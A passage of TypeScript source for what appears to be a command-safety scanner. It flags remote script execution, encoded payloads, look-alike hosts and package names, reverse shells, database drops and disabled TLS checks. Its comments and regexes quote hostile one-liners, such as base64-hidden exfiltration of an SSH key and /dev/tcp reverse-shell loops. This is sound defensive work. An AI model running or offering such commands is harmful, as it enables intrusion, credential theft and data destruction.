    // Windows programs that run code from a URL (LOLBAS): `mshta https://…/x.hta`, regsvr32's scriptlet `/i:https://…/x.sct scrobj.dll`
    flag: "remote_script_execution",
    level: "high",
    match: (v) => {
      const url = (x: string) => /^["']?(https?|ftp):\/\/|^\\\\/i.test(x);
      if (v.name === "mshta" && v.a.some(url)) return "mshta runs an HTML application fetched from the network";
      if (v.name === "regsvr32" && v.a.some((x) => /^[/-]i:/i.test(x) && url(x.slice(3))))
        return "regsvr32 runs a scriptlet fetched from the network (/i:URL scrobj.dll)";
      if (v.name === "rundll32" && v.a.some((x) => /^javascript:/i.test(x))) return "rundll32 runs script code given on its command line";
      return null;
    },
  },
  {
    flag: "remote_script_execution",
    level: "high",
    match: (v, ctx) =>
      (v.name === "echo" || v.name === "printf") &&
      plantedKey(v, [
        ...(ctx.outerRedirects ?? []).filter((r) => />/.test(r.op)).map((r) => r.target),
        ...writeTargets(v).map((w) => w.target),
        // `printf … | tee -a ~/.ssh/authorized_keys`
        ...(ctx.pipedInto === "tee" ? (ctx.pipedIntoArgs ?? []).filter((x) => !x.startsWith("-")) : []),
      ]),
  },
  {
    // `curl -o ~/.bashrc URL`, `wget URL -O /etc/cron.d/x`, `curl URL >> ~/.ssh/authorized_keys`: what the
    // download holds runs later, or logs in, and the trail never shows it (round 12)
    flag: "remote_script_execution",
    level: "high",
    match: (v, ctx) => {
      if (!isFetch(v)) return null;
      const url = v.a.find((x) => /^(https?|ftp):\/\//i.test(x)) ?? "the network";
      const targets = [
        ...downloadedFiles(v).map((d) => d.file),
        ...[...v.cmd.redirects, ...(ctx.outerRedirects ?? [])].filter((r) => />/.test(r.op)).map((r) => r.target),
        ...(ctx.pipedInto === "tee" ? (ctx.pipedIntoArgs ?? []).filter((x) => !x.startsWith("-")) : []),
      ];
      for (const t of targets) {
        const place = runsLaterAt(t);
        if (place) return `writes what it downloads from ${short(url, 50)} into ${short(t, 60)}, ${place}`;
      }
      return null;
    },
  },
  // and handed out without a send: a file server over ~ or /, ~/.aws mounted into a stranger's image, git add .env (exposedSecrets)
  {
    flag: "sends_local_secrets",
    level: "graded",
    match: (v, ctx) => [...sentSecrets(v, ctx.laterSink, ctx.vars), ...exposedSecrets(v, ctx.cwd ?? null)],
  },

  // unpinned installs
  {
    flag: "unpinned_install",
    level: "low",
    match: (v) => {
      const unpinned = unpinnedPackages(v);
      return unpinned.length > 0 && `installs ${short(unpinned.join(", "))} without a pinned version`;
    },
  },

  // package names written with look-alike letters or invisible characters (see deceptivePackage)
  {
    flag: "obfuscated_command",
    level: "high",
    match: (v) => {
      // a look-alike host is flagged once, as a host
      const hits = installedPackages(v).packages.filter((name) => deceptiveHosts(name) === null && deceptivePackage(name) !== null);
      if (hits.length === 0) return null;
      const reads = deceptivePackage(hits[0]!)!;
      const more = hits.length > 1 ? ` (and ${hits.length - 1} more package name${hits.length > 2 ? "s" : ""} like it)` : "";
      return `the package name ${short(showInvisible(hits[0]!), 60)} ${reads.how}: it reads as ${short(reads.as, 60)} but is another package${more}`;
    },
  },

  // database tools
  {
    flag: "database_destructive",
    level: "high",
    match: (v) => (v.name === "dropdb" || (v.name === "mysqladmin" && has(v, "drop"))) && `${v.name} drops a whole database`,
  },
  {
    flag: "database_destructive",
    level: "high",
    match: (v) => v.name === "redis-cli" && v.a.some((x) => /^flush(all|db)$/i.test(x)) && "redis-cli FLUSHALL/FLUSHDB deletes every key",
  },
  {
    flag: "database_destructive",
    level: "medium",
    match: (v) =>
      FRAMEWORK_DB_RESET.test(`${v.name} ${v.a.join(" ")}`) && "resets or drops the application database (all its data is lost)",
  },

  // arguments that hold other commands (bash -c, $(…), <(…)) and hidden programs
  {
    flag: "obfuscated_command",
    level: "high",
    match: (v) => evaluatesText(v.name) && hiddenArgument(v) === "fetch" && `${v.name} evaluates text fetched from the network`,
  },
  {
    flag: "remote_script_execution",
    level: "high",
    match: (v) => !evaluatesText(v.name) && hiddenArgument(v) === "fetch" && `${v.name} runs a script fetched from the network`,
  },
  {
    // curl -d @$(echo fi8uc3NoL2lkX3JzYQ== | base64 -d) …: what a request sends is named by decoded text
    flag: "obfuscated_command",
    level: "medium",
    match: (v) =>
      isNetworkClient(v) &&
      v.args.some(subsDecode) &&
      `${v.name} sends data or a file named by text decoded at run time: a reader cannot see what it sends`,
  },
  {
    // python -c "exec(urllib.request.urlopen('https://…').read())", node -e "https.get(…, r => … eval(d))"
    flag: "remote_script_execution",
    level: "high",
    match: (v) => {
      const code = isInterpreterName(v.name) ? inlineCode(v) : null;
      return (
        code !== null &&
        CODE_FETCHES.test(code) &&
        CODE_EVALUATES.test(code) &&
        `${v.name} runs inline code that downloads code and runs it`
      );
    },
  },
  {
    flag: "obfuscated_command",
    level: "high",
    match: (v) => hiddenArgument(v) === "decode" && `${v.name} runs text decoded from an encoded string`,
  },
  {
    flag: "obfuscated_command",
    level: "high",
    match: (v) =>
      (v.name === "powershell" || v.name === "pwsh") &&
      v.a.some((x) => /^-(e|ec|en|enc|enco|encod|encode|encoded|encodedcommand)$/i.test(x)) &&
      "powershell -EncodedCommand runs a base64-encoded script",
  },
  {
    // python -c "exec(base64.b64decode(...))" and friends
    flag: "obfuscated_command",
    level: "high",
    match: (v) => {
      const code = v.a.join(" ");
      return (
        isInterpreterName(v.name) && DECODE_CALL.test(code) && EXEC_CALL.test(code) && `${v.name} decodes and executes an encoded payload`
      );
    },
  },
  {
    // a command word that is itself a substitution: `$(curl …)` runs whatever the server returns
    flag: "remote_script_execution",
    level: "high",
    match: (v) => {
      const first = v.cmd.words[0];
      return !!first && first.subs.length > 0 && !first.group && subsFetch(first) && "runs the output of a download as a command";
    },
  },
  {
    // cu''rl, c\url, $(echo curl), $(echo … | base64 -d): the program's name is hidden from a reader
    flag: "obfuscated_command",
    level: "graded",
    match: (v) =>
      v.hidden !== undefined && {
        level: v.hidden === "decoded" || HIDEABLE(v.name) ? "high" : "medium",
        detail:
          v.hidden === "decoded"
            ? "runs a program whose name is decoded at run time ($(… | base64 -d) as the command)"
            : `hides the program name ${short(v.name, 30)} with ${HOW_HIDDEN[v.hidden]}`,
      },
  },
  {
    // python -c "import os; os.system('…')": a shell command inside inline code (the command itself is analysed too)
    flag: "obfuscated_command",
    level: "medium",
    match: (v) => {
      const call = shellOutCall(v);
      return call !== null && `${v.name} runs a shell command from inline code (${short(call, 30)}), where a reader does not look for one`;
    },
  },
  {
    // bash -c "$(…)": the shell runs code that another command produces, which no reader sees
    flag: "obfuscated_command",
    level: "medium",
    match: (v) => {
      if (!SHELLS.has(v.name)) return null;
      const source = nestedSource(v);
      const script = source === null ? [] : parseShell(source);
      const words = script.length === 1 && script[0]!.commands.length === 1 ? script[0]!.commands[0]!.words : [];
      const computed = words.length === 1 && words[0]!.subs.length > 0 && /^(\$\(.*\)|`.*`)$/s.test(words[0]!.text);
      return (
        computed &&
        !subsFetch(words[0]!) &&
        !subsDecode(words[0]!) &&
        `${v.name} -c runs code produced by another command (${short(source!, 40)})`
      );
    },
  },
];

// --- Pipeline rules --------------------------------------------------------------------------------

const firstStage = (views: readonly (View | null)[], test: (v: View) => boolean) => views.findIndex((v) => v !== null && test(v));
/** A stage that is one `( … )` group: its output is what the commands inside print (`(curl -s URL) | sh`, `(iwr URL).Content | iex`). */
const groupWord = (v: View) => (v.cmd.words.length === 1 && v.cmd.words[0]!.group ? v.cmd.words[0]! : null);
const fetchesStage = (v: View) => {
  const group = groupWord(v);
  return isFetch(v) || v.args.some((w) => isFetch(null, w)) || (group !== null && subsFetch(group));
};
const decodesStage = (v: View) => {
  const group = groupWord(v);
  return isDecoder(v) || (group !== null && subsDecode(group));
};

export const PIPELINE_RULES: readonly PipelineRule[] = [
  {
    flag: "remote_script_execution",
    level: "high",
    match: (views, i) => {
      const at = firstStage(views, fetchesStage);
      if (at < 0 || at >= i) return null;
      const url = views[at]!.a.find((x) => /^https?:\/\//.test(x));
      return `pipes a download${url ? ` from ${short(url, 50)}` : ""} straight into ${views[i]!.name}`;
    },
  },
  {
    flag: "obfuscated_command",
    level: "high",
    match: (views, i) => {
      const fetched = firstStage(views, fetchesStage);
      const at = firstStage(views, decodesStage);
      if ((fetched >= 0 && fetched < i) || at < 0 || at >= i) return null;
      return `decodes hidden text (${views[at]!.name}) and runs it with ${views[i]!.name}`;
    },
  },
];

// --- Text rules (SQL, Redis, Mongo in any command or patch) ---------------------------------------

// Host names that read as another host: a Cyrillic і in gіthub.com, a Greek ο in gοogle.com.
// The command reaches whoever registered the look-alike (`pip install --index-url https://pypі.org/…`,
// `git clone https://gіthub.com/…`, `go install gіthub.com/…`), while a person reading it, or
// approving the trail, sees the real name. Width forms (ｇｉｔｈｕｂ.com) are the same host once
// normalized, and a name wholly in another script (пример.рф) reads as what it is.
// Labels of at most 63 characters (as in DNS), starting where a label can start: a long run of
// letters without dots costs linear time, not quadratic.
export const DOMAIN_LIKE = /(?<![\p{L}\p{N}-])(?:[\p{L}\p{N}-]{1,63}\.)+[\p{L}\p{N}-]{2,63}(?![\p{L}\p{N}-])/gu;
const NON_ASCII = /[^\x00-\x7f]/;
const LATIN = /[a-z]/i;
const OTHER_LETTER = /[\p{Script=Cyrillic}\p{Script=Greek}\p{Script=Armenian}\p{Script=Cherokee}]/u;

/** What a host written with look-alike letters reads as, or null when it is not one. */
export function deceptiveHost(host: string): string | null {
  if (!NON_ASCII.test(host)) return null;
  const normalized = host.normalize("NFKC").toLowerCase();
  if (!NON_ASCII.test(normalized)) return null; // width forms: the same host
  const folded = foldConfusables(normalized);
  if (!NON_ASCII.test(folded)) return folded;
  const mixed = normalized.split(".").some((label) => LATIN.test(label) && OTHER_LETTER.test(label));
  return mixed ? folded : null;
}

// Package names that read as another package: `pip install rеquests` (a Cyrillic е), `npm i ｌodash`
// (a fullwidth ｌ), `npm install lo<U+200B>dash` (a zero-width space). The registry serves whoever
// published the look-alike, or the install fails in a way the reader cannot see. Unlike hosts, width
// forms are not folded by any registry, so they count too; names in one other script, and Latin
// letters with accents, read as what they are.

/** What separates the parts of a package argument: scope, path, name words, version. */
const PACKAGE_NAME_SEPARATOR = /[-_./@:+=<>~!^,\s]/;

/** What a package name written with look-alike letters or invisible characters reads as, and how it is written; null when it is not one. */
export function deceptivePackage(name: string): { as: string; how: string } | null {
  if (!NON_ASCII.test(name)) return null;
  const visible = removeInvisible(name);
  if (visible !== name) return { as: foldConfusables(visible.normalize("NFKC")), how: "holds invisible characters" };
  const normalized = visible.normalize("NFKC");
  if (!NON_ASCII.test(normalized)) return { as: normalized, how: "is written with width or compatibility forms" };
  const folded = foldConfusables(normalized);
  // mixing is judged per part, as per label for hosts: django-русский and пример.рф/x/tool read as what they are
  const mixed = normalized.split(PACKAGE_NAME_SEPARATOR).some((part) => LATIN.test(part) && OTHER_LETTER.test(part));
  if (!NON_ASCII.test(folded) || mixed) return { as: folded, how: "is written with look-alike letters" };
  return null;
}

function deceptiveHosts(t: string): string | null {
  if (!NON_ASCII.test(t)) return null;
  for (const m of t.matchAll(DOMAIN_LIKE)) {
    const reads = deceptiveHost(m[0]);
    if (reads !== null)
      return `the host name ${short(m[0], 60)} is written with look-alike letters: it reads as ${short(reads, 60)} but is another host`;
  }
  return null;
}

// `while read line; do $line; done < /dev/tcp/h/p`, `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l 2>&5 >&5; done`
// (PayloadsAllTheThings, "Reverse Shell Cheatsheet", Bash read line): a loop that runs each line it reads
const READ_LOOP_RUNS_LINE =
  /\bwhile\s+(?:IFS=\S{0,10}\s+)?read\b(?:\s+-[a-zA-Z]{1,4}(?:\s+\d{1,4})?){0,4}\s+([A-Za-z_]\w{0,63})[^;\n]{0,60}?[;\n]\s*do\s+(?:eval\s+|(?:ba|z|da|k)?sh\s+-c\s+)?["']?\$\{?\1\}?["']?(?=[\s;&|<>)]|$)/g;
const SOCKET_NEAR = /\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat|socat|telnet|s_client)\b/;

/** A `while read` loop that runs each line it reads, fed from a network socket: a reverse shell; its detail, or null. */
function readLoopShell(t: string): string | null {
  if (!t.includes("read")) return null;
  READ_LOOP_RUNS_LINE.lastIndex = 0;
  for (let m = READ_LOOP_RUNS_LINE.exec(t), n = 0; m !== null && n < 50; m = READ_LOOP_RUNS_LINE.exec(t), n++) {
    const near = t.slice(Math.max(0, m.index - 300), m.index + m[0].length + 300);
    const socket = SOCKET_NEAR.exec(near);
    if (socket)
      return `a while-read loop runs every line it reads from a network connection (${socket[0]}) as a command: a reverse shell a remote host controls`;
  }
  return null;
}

export const TEXT_RULES: readonly TextRule[] = [
  { flag: "obfuscated_command", level: "high", match: deceptiveHosts },
  { flag: "remote_script_execution", level: "high", match: readLoopShell },
  {
    // New-Object Net.Sockets.TCPClient("h",p); … iex $d …: the PowerShell reverse shell one-liner (its `;` split it into commands)
    flag: "remote_script_execution",
    level: "high",
    match: (t) =>
      /Sockets\.TCPClient\s*\([^\n]{0,1500}?(\biex\b|invoke-expression)/i.test(t)
        ? "PowerShell connects to a remote host and runs what it sends (a reverse shell)"
        : null,
  },
  {
    // & ([scriptblock]::Create((iwr https://…).Content)): PowerShell runs fetched text without iex
    flag: "remote_script_execution",
    level: "high",
    match: (t) =>
      /\[scriptblock\]::create\s*\([^\n]{0,300}?(\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|downloadstring|webclient)/i.test(t)
        ? "PowerShell makes a script block of text fetched from the network and runs it"
        : null,
  },
  {
    flag: "database_destructive",
    level: "high",
    match: (t) => {
      const drop = /\bdrop\s+(database|schema|table|collection|keyspace)\b(?:\s+if\s+exists)?\s*([`"\w.-]{0,80})/i.exec(t);
      return drop && `DROP ${drop[1]!.toUpperCase()} ${short(drop[2] ?? "")} deletes it and all its data`.replace(/\s+deletes/, " deletes");
    },
  },
  {
    flag: "database_destructive",
    level: "high",
    match: (t) =>
      /\btruncate\s+table\b/i.test(t) || /^[ \t]*truncate[ \t]+[`"]?[a-z_][\w.]*[`"]?[ \t]*;?[ \t]*$/im.test(t)
        ? "TRUNCATE deletes every row of a table"
        : null,
  },
  {
    flag: "database_destructive",
    level: "high",
    match: (t) => {
      const del = /\bdelete\s+from\s+[`"[\]\w.]{1,80}\s*(;|$|["'])/im.exec(t);
      return del && !/\bwhere\b/i.test(t.slice(del.index, del.index + 200)) ? "DELETE without WHERE deletes every row of a table" : null;
    },
  },
  {
    flag: "database_destructive",
    level: "high",
    match: (t) => (/\.dropDatabase\(\)|\bdb\.[\w.]{1,80}\.drop\(\)/.test(t) ? "drops a MongoDB database or collection" : null),
  },
  {
    flag: "credential_exposure",
    level: "low",
    match: (t) =>
      // IDENTIFIED BY inside CREATE/ALTER USER or GRANT only ("problem identified by "jamesh"" is a changelog's prose)
      /\b(?:(?:create|alter)\s+(?:user|role|login)|grant)\b[^;]{0,400}?\bidentified\s+(?:with\s+\w+\s+)?by\s+['"]|\bwith\s+(?:encrypted\s+)?password\s+'/i.test(
        t,
      )
        ? "sets a database password in the command text, where shell and SQL history keep it"
        : null,
  },
  {
    flag: "database_destructive",
    level: "high",
    match: (t) => (/^[ \t]*flush(all|db)\b/im.test(t) ? "FLUSHALL/FLUSHDB deletes every Redis key" : null),
  },
];

/**
 * Whether the word after a password option can be the password: not another option, a line's continuation
 * backslash (`--password \\`), a word of prose around the option ("The -keypass value is…", "--password can
 * take…", "but -pass isn't."), or the count cwebp's `-pass 6` takes.
 */
function isSecretValue(option: string, value: string): boolean {
  if (value.startsWith("-") || value === "\\" || value === "") return false;
  if (PROSE_AFTER_OPTION.has(value.replace(/[.,;:]$/, ""))) return false;
  return !(/^-pass$/i.test(option) && /^\d{1,2}$/.test(value));
}
const PROSE_AFTER_OPTION = new Set([
  ...["value", "can", "is", "isnt", "and", "or", "the", "to", "option", "argument", "flag", "will", "may", "must", "was", "no"],
  ...["does", "doesnt", "dont", "cant", "if", "are", "in", "on", "for", "with"],
]);
/** `--secret` of container tools and gcloud names a stored secret (`docker service create --secret db_pw`), it carries none. */
const namesStoredSecret = (v: View, option: string) =>
  /^--secret(=|$)/i.test(option) && ["docker", "podman", "nerdctl", "buildah", "gcloud", "kubectl", "oc", "fly", "flyctl"].includes(v.name);

/** ssh's options that take a value (ssh(1)). */
const SSH_VALUE_OPTION = /^-[bcDEeFIiJLlmOopQRSWw]$/;
const LOCAL_HOST_NAME = /^(?:[^@]*@)?(localhost|127(?:\.\d{1,3}){3}|::1|\[::1\])$/i;

/** The host an `ssh -A` (or `-o ForwardAgent=yes`) forwards the agent to, or null (no forwarding, or this machine). */
function agentForwardedTo(v: View): string | null {
  if (v.name !== "ssh") return null;
  let forwards = false;
  let host: string | null = null;
  for (let i = 0; i < v.a.length && host === null; i++) {
    const x = v.a[i]!;
    if (/^-[a-zA-Z]*A[a-zA-Z]*$/.test(x) && !SSH_VALUE_OPTION.test(x)) forwards = true;
    const option = x === "-o" ? (v.a[i + 1] ?? "") : x.startsWith("-o") ? x.slice(2) : null;
    if (option !== null && /^\s*forwardagent\s*[= ]\s*(yes|true)\b/i.test(option)) forwards = true;
    if (SSH_VALUE_OPTION.test(x)) i++;
    else if (!x.startsWith("-")) host = x;
  }
  return forwards && host !== null && !LOCAL_HOST_NAME.test(host) ? host : null;
}

// --- Patch rules (added lines of any file) -----------------------------------------------------------

export const PATCH_RULES: readonly PatchRule[] = [
  {
    re: /\bverify\s*=\s*False\b|\bssl_verify\s*[:=]\s*(false|False|0)\b|\bverify_ssl\s*[:=]\s*(false|False)\b/,
    flag: "security_disabled",
    level: "medium",
    detail: "turns off TLS certificate verification (verify=False)",
  },
  {
    re: /rejectUnauthorized\s*:\s*false|NODE_TLS_REJECT_UNAUTHORIZED\s*[=:]\s*['"]?0/,
    flag: "security_disabled",
    level: "medium",
    detail: "turns off TLS certificate verification (rejectUnauthorized: false)",
  },
  {
    re: /InsecureSkipVerify\s*:\s*true|insecure_skip_verify\s*[:=]\s*true|insecure-skip-tls-verify\s*[:=]\s*true/i,
    flag: "security_disabled",
    level: "medium",
    detail: "turns off TLS certificate verification (InsecureSkipVerify)",
  },
  {
    re: /_create_unverified_context|CERT_NONE\b|check_hostname\s*=\s*False|CURLOPT_SSL_VERIFY(PEER|HOST)\s*,\s*(false|0)|ServerCertificateValidationCallback\s*=.*true|TrustAllCerts|ALLOW_ALL_HOSTNAME_VERIFIER|NoopHostnameVerifier/,
    flag: "security_disabled",
    level: "medium",
    detail: "accepts any TLS certificate",
  },
  {
    re: /(^|\s)(strict-ssl|sslVerify|ssl_verify|sslverify)\s*[=:]\s*(false|0|no)\b/i,
    flag: "security_disabled",
    level: "medium",
    detail: "turns off TLS certificate verification in a config file",
  },
  { re: /^[ \t]*SELINUX[ \t]*=[ \t]*disabled/m, flag: "security_disabled", level: "medium", detail: "disables SELinux" },
  {
    re: /^[ \t]*privileged[ \t]*:[ \t]*true\b/m,
    flag: "security_disabled",
    level: "medium",
    detail: "runs a privileged container with full access to the host",
  },
  {
    re: /\b(os\.chmod|fs\.chmodSync|fs\.chmod|chmod)\s*\([^)]{0,200}\b0o?777\b|\bchmod\s+(-R\s+)?(777|666|a\+w|o\+w)\b/,
    flag: "permission_weakening",
    level: "medium",
    detail: "makes files world-writable (chmod 777/666)",
  },
  { re: /\bNOPASSWD\s*:/, flag: "privilege_escalation", level: "high", detail: "grants passwordless sudo (NOPASSWD)" },
  {
    // an ssh_config block for every host (`Host *`) that forwards the agent: each server connected to can use the keys
    re: /^[ \t]*Host[ \t]+\*[ \t]*(?:#.*)?\n(?:[ \t]+[^\n]{0,200}\n){0,30}?[ \t]*ForwardAgent[ \t=]+yes\b/im,
    flag: "credential_exposure",
    level: "medium",
    detail: "forwards your SSH agent to every host (Host * with ForwardAgent yes): root on any server you connect to can use your keys",
  },
  {
    re: /(?:^|\s)(?:curl|wget)\s[^|\n]{0,300}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k)?sh\b/m,
    flag: "remote_script_execution",
    level: "high",
    detail: "pipes a download straight into a shell",
  },
  {
    // setup.py, a postinstall script, a test helper: a line that reads a key or the environment and posts it
    re: CODE_SENDS_SECRETS_LINE,
    flag: "sends_local_secrets",
    level: "high",
    detail: "adds code that reads local secrets (keys, credentials or the environment) and sends them over the network",
  },
  {
    re: /<redacted:(password|secret|token|api_key|aws_secret_key|aws_access_key|[a-z]+_key|[a-z]+_token|private_key|jwt|azure_connection_string|bearer_token|basic_auth)>/,
    flag: "credential_exposure",
    level: "medium",
    detail: (file) => `writes a secret into ${file}`,
  },
];
